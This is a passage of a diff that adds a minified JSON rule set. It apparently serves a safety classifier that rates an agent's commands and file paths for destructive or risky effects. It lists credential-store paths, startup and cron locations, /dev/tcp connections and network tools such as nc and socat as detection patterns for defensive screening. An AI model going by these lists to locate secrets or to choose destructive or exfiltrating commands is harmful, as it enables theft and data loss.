+e $0","reversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":\
+"fold trim $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decod\
+eURI":"fold url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_m\
+ap":"map $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-tex\
+t replace $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold\
+ lower $self","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self",\
+"chomp":"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"re\
+verse $self","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"\
+value $self","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows\
+","clearAsync":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-las\
+ting run sql delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-ma\
+de:store value $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","u\
+npack1":"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invo\
+ke $self $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop\
+_database":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run\
+ git checkout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","sta\
+sh":"if-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-k\
+ept run sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"va\
+lue","dropindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run \
+sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql \
+delete-all $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-e\
+mpty run sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept ru\
+n sql drop-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection\
+":"made rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"\
+if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-\
+sdk delete","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop"\
+:"if-made:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-mad\
+e:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin",\
+"rescue","ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public"\
+,"private","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+="\
+,".=","||=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"declaring":["const","let","var","my","our","local","await","stati\
+c","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module"\
+,"net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_thre\
+ads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configpa\
+rser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc",\
+"getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mi\
+metypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shl\
+ex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile\
+","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfil\
+e","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fas\
+tapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest"\
+,"vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield"\
+,"async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach"\
+,"x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"spawni\
+ng":["spawn","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_she\
+ll"],"shells":["system","exec","shell_exec","popen","execSync","os"],"waiting":["break","return","exit","wait","wait2","waitpid","waitpid2","wait4","join","comm\
+unicate","sleep","usleep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue"],"sql_kinds":["DATABASE","SCHEMA",\
+"TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNE\
+D","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK",\
+"IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FI\
+LE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"befor\
+e_value":["return","typeof","case","in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for\
+","foreach"],"data_signs":["driver","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],\
+"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h",\
+"filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_al\
+l","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces\
+","queues","topics","streams","buckets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","serve\
+rs","clusters","namespaces","organizations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","dataset\
+s","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virt\
+ualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","vol\
+umes"],"deleting":["delete","rdelete","del","drop","destroy","purge","truncate","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"\
+],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","ass\
+ignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers","header","headers","interceptor","interceptors","cookie","cookies","cache"\
+,"caches","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","\
+exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","respon\
+ses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mo\
+ckResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop",\
+"stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","rese\
+tModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","while","try","except","case","and","or","assert","&&","||","??","?","?\
+.","||=","??=","&&="],"exiting":["return","throw","raise","await"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","i\
+n","of","as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","ate\
+xit","Timer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\
+\\\\","++","--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln\
+","chmod","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},\
+"paths":{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself\
+, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"\
+A home folder itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else o\
+utside the workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by \
+a build.","source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the w\
+orkspace, and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-ro\
+ot":"Such a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","\
+credentials":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.",\
+"handed-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"\
+Users and permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"\
+Keys that may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switc\
+hes and memory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":\
+"The same to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, datab\
+ases, lists of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a fo\
+lder whose name is unknown, and may be empty: all of the machine then."},"purposes":{"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash_logout|bas\
+h_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_en\
+v|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup\
+|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\
+\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|ske\
+l/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedule":{"form":\
+"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\\
+.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/et\
+c/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/usr/local)?\
+/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pa\
+ss\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/e\
+tc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"d\
+evice":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|dis\
+k/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|crio)\\\\.sock\
+$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|payroll|salar(\
+y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|ba\
+k|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"system_fold\
+ers":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applications","snap",\
+"nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","music","vide\
+os","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf",".git-cred\
+entials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","login.keychain\
+-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_history",".psq\
+l_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node_modules","\
+bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".nyc_output","\
+.next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtualenv",".virtu\
+alenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",".vercel","\
+.netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","builddir","\
+storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__generated__"\
+,"artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-report","junit\
+.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart_tool","der\
+iveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-cache","bench\
+-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings","wheelhou\
+se",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","bazel-testl\
+ogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".nx","lerna-\
+debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__","__image_sn\
+apshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","appdir",".vs","xcuserdata",".libs",".firebase",".apt_generated","web_modules","\
+vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimblecache","msbuild_log\
+s","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","blib","build_isolated\
+","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".virtual_documents",".\
+pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot",".import",".expo-s\
+hared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".\
+symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".open-next",".content\
+layer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scriptassemblies","librar\
+y/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","app","apps","test","test\
+s","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","server","client","cl\
+ients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configuration","settings","publ\
+ic","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","controllers","servic\
+es","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","resources","i18n","loca\
+le","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernetes","charts","helm",\
+"ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema","schemas","android\
+","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources","benches","benchma\
+rks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"],"source_endings":[\
+"ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala","ex","exs","erl","\
+clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature","png","svg"],"file_\
+endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp","java","kt","kts","\
+swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto","ex","exs","scala"\
+,"cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile","gemfile","rakefil\
+e","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kub\
+e/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.c\
+onfig/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/configstore|\\\\.heroku/net\
+rc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.compo\
+ser/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabas\
+e/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\
+\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggi\
+ngface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/crede\
+ntials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/keyrings|\\\\.local/share\
+/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chrome/profile[^/]*|chro\
+mium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin\
+|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/\
+pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss\
+/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","sec\
+rets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","htt\
+p","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat\
+","netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"\
+killers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","s\
+plit","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fis\
+h","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub"\
+,"shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am\
+"],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name\
+","p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body\
+_options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"]},"interpreters":{"python":{"short":"cmWXQ","long":[\
+"check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code"\
+:["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","lon\
+g":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","\
+openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","tes\
+t-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks\
+":["c","check"]},"nodejs":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists",\
+"config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-l\
+imit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javas\
+cript","code":["e","p","eval","print"],"checks":["c","check"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","c\
+onditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","re\
+port-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig",\
+"preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require"\
+,"import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-wa\
+rnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-report\
+er","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{\
+"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","titl\
+e","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections\
+","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eva\
+l","print"],"checks":["c","check"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env\
+-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-hea\
+p","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p",\
+"language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experim\
+ental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","repor\
+t-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destinat\
+ion","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"pe\
